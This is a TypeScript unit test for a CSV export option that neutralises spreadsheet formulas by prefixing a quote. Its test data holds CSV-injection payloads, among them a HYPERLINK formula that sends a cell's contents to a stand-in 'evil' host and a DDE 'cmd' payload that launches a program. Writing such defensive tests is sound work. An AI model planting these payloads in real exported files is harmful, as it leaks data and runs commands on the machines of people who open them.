// CSV export can neutralise spreadsheet formulas: a cell holding `=HYPERLINK("http://evil/?"&A1)` runs
// when the file is opened in Excel or Sheets. With the option, such text gets a leading `'`; without it
// (the default) the file holds the values exactly as stored, so an export imports back unchanged.
import * as assert from 'node:assert/strict';
import { csvLines } from '../../../src/core/data/exportFormat';

const columns = ['id', 'note'];
const hostile = ['=HYPERLINK("http://evil/?"&A1)', '+1+1', "-2+3+cmd|' /C calc'!A0", '@SUM(A1)', '\t=1', '\r=1'];
const harmless = ['-5', '+3.25', '1e-3', 'plain', '', 'a=b'];

describe('CSV export: spreadsheet formulas', () => {
  it('with escapeFormulas, text a spreadsheet would run starts with a quote; numbers and other text are kept', () => {
    const rows = [...hostile, ...harmless].map((note, id) => ({ id, note }));
    const lines = csvLines(columns, rows, false, { escapeFormulas: true }).split('\r\n');
    const notes = lines.slice(0, rows.length).map((l) => l.slice(l.indexOf(',') + 1));
    assert.deepEqual(notes.slice(0, hostile.length), [
      `"'=HYPERLINK(""http://evil/?""&A1)"`,
      `'+1+1`,
      `'-2+3+cmd|' /C calc'!A0`,
      `'@SUM(A1)`,
      `'\t=1`,
      `"'\r=1"`,
    ]);
    assert.deepEqual(notes.slice(hostile.length), ['-5', '+3.25', '1e-3', 'plain', '""', 'a=b']);
    // a negative number column (a wire number) is a number, never escaped
    assert.equal(csvLines(['n'], [{ n: -5 }], false, { escapeFormulas: true }), '-5\r\n');
  });

  it('is off by default: the values are written exactly as stored', () => {
    const rows = hostile.map((note, id) => ({ id, note }));
    const text = csvLines(columns, rows, true);
    assert.ok(!text.includes("'="), text);
    assert.ok(text.includes('"=HYPERLINK(""http://evil/?""&A1)"'));
  });
});
